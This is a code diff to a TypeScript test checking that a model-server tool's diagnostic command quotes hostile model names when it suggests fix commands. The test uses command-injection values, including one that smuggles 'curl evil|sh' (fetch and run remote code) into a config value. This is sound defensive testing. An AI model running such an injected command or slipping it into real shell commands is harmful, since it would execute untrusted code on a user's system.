@@ -5,6 +5,7 @@ import type { AddressInfo } from 'node:net';
 import { checkModels } from '../../src/actions/doctor-models.ts';
 import { probeOllama, probeOpenAi } from '../../src/config/detect.ts';
 import { defaultConfig } from '../../src/config/load.ts';
+import { worded } from '../../src/say/say.ts';
 import { until } from '../helpers/until.ts';
 
 describe('a stranger at the address of a model server', () => {
@@ -67,7 +68,7 @@ describe('a stranger at the address of a model server', () => {
     loaded.config.endpoints['e'] = { kind: 'ollama', url, max_concurrent: 1 };
     const kind = { kind: 'ollama', endpoint: 'e', num_ctx_max: 4096, keep_alive: '5m', pull: false } as const;
     loaded.config.runners['r'] = { ...kind, model: 'none; evil' };
-    const checks = await checkModels(loaded);
+    const checks = worded(await checkModels(loaded));
     const cure = checks.find(({ name }) => name === 'runner r')?.cure ?? '';
     assert.ok(cure.includes("ollama pull 'none; evil'"), cure);
     assert.ok(cure.includes("koubou config runners.r.model 'm; curl evil|sh #'"), cure);
